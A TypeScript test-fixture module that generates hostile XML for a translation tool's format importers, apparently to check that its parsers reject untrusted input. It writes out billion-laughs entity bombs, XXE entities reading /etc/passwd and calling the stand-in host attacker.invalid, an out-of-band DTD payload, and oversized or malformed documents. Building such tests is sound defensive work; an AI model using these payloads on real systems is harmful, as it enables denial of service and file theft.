/**
 * Attack corpus, XML half: generators for hostile XML in the shape of each interchange format
 * (RELIABILITY.md "Untrusted input", S6). Test fixture code, written here rather than copied as
 * binary files, so every attack is readable and its size is a parameter.
 */

/** Where a format wants its content: the attack body goes inside `open` … `close`. */
export interface XmlShape {
  /** Root start tags up to the place where content may go. */
  open: string;
  close: string;
}

/** A valid-looking frame per XML importer; the attacks fill it. */
export const xmlShapes = {
  tmx: {
    open: '<tmx version="1.4"><header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="x" adminlang="en" srclang="id" datatype="plaintext"/><body><tu><tuv xml:lang="id"><seg>',
    close: '</seg></tuv><tuv xml:lang="en"><seg>x</seg></tuv></tu></body></tmx>',
  },
  xliff12: {
    open: '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="a" source-language="id" target-language="en" datatype="plaintext"><body><trans-unit id="1"><source>',
    close: '</source><target>x</target></trans-unit></body></file></xliff>',
  },
  xliff21: {
    open: '<xliff version="2.1" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="id" trgLang="en"><file id="f"><unit id="1"><segment><source>',
    close: '</source><target>x</target></segment></unit></file></xliff>',
  },
  tbx: {
    open: '<martif type="TBX"><text><body><termEntry><langSet xml:lang="id"><tig><term>',
    close: '</term></tig></langSet><langSet xml:lang="en"><tig><term>x</term></tig></langSet></termEntry></body></text></martif>',
  },
  /** word/document.xml of a DOCX. */
  docx: {
    open: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>',
    close: '</w:t></w:r></w:p></w:body></w:document>',
  },
} satisfies Record<string, XmlShape>;

export type XmlFormat = keyof typeof xmlShapes;

const declaration = '<?xml version="1.0" encoding="UTF-8"?>\n';

/** The root element's name (what a DOCTYPE must name). */
function rootName(shape: XmlShape): string {
  return /^<([^\s>]+)/.exec(shape.open)![1]!;
}

/** Billion laughs: ten levels of entities, each ten of the one below (10^9 "lol" if expanded). */
export function billionLaughs(shape: XmlShape): string {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `${declaration}<!DOCTYPE ${rootName(shape)} [\n${levels.join('\n')}\n]>\n${shape.open}&lol9;${shape.close}`;
}

/** External entity (XXE): would read a local file, then a URL, into the document. */
export function externalEntity(shape: XmlShape): string {
  return `${declaration}<!DOCTYPE ${rootName(shape)} [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "http://attacker.invalid/x">]>\n${shape.open}&xxe;&remote;${shape.close}`;
}

/** A DOCTYPE where none may be: after the root's start, inside the content. */
export function doctypeInside(shape: XmlShape): string {
  return `${declaration}${shape.open}<!DOCTYPE x [<!ENTITY a "b">]>&a;${shape.close}`;
}

/** Parameter entities in an internal subset (the out-of-band XXE shape). */
export function parameterEntity(shape: XmlShape): string {
  return `${declaration}<!DOCTYPE ${rootName(shape)} [<!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext;]>\n${shape.open}x${shape.close}`;
}

/** `depth` nested elements inside the content (10k by default: far past the cap of 64). */
export function deepNesting(shape: XmlShape, depth = 10_000, tag = 'g'): string {
  return `${declaration}${shape.open}${`<${tag}>`.repeat(depth)}x${`</${tag}>`.repeat(depth)}${shape.close}`;
}

/** One attribute of `megabytes` MB on an element inside the content. */
export function hugeAttribute(shape: XmlShape, megabytes = 20, tag = 'g'): string {
  return `${declaration}${shape.open}<${tag} title="${'A'.repeat(megabytes * 1024 * 1024)}">x</${tag}>${shape.close}`;
}

/** One element with `count` attributes (cap 256). */
export function manyAttributes(shape: XmlShape, count = 5000, tag = 'g'): string {
  const attributes = Array.from({ length: count }, (_, i) => ` a${i}="v"`).join('');
  return `${declaration}${shape.open}<${tag}${attributes}>x</${tag}>${shape.close}`;
}

/** The document cut in half (inside a tag). */
export function truncatedXml(shape: XmlShape): string {
  const whole = `${declaration}${shape.open}Teks yang terpotong.${shape.close}`;
  return whole.slice(0, Math.floor(whole.length / 2));
}
